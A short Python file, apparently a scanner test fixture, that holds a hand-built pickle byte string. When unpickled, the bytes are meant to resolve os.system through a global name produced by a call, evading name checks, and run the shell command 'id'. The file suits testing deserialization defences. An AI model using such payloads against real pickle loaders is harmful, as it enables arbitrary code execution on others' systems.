"""The name of a global is what a call returns."""

PAYLOAD = b"\x80\x04\x8c\x08builtins\x8c\x03str\x93(\x8c\x02ostR\x8c\x06system\x93\x8c\x02id\x85R."
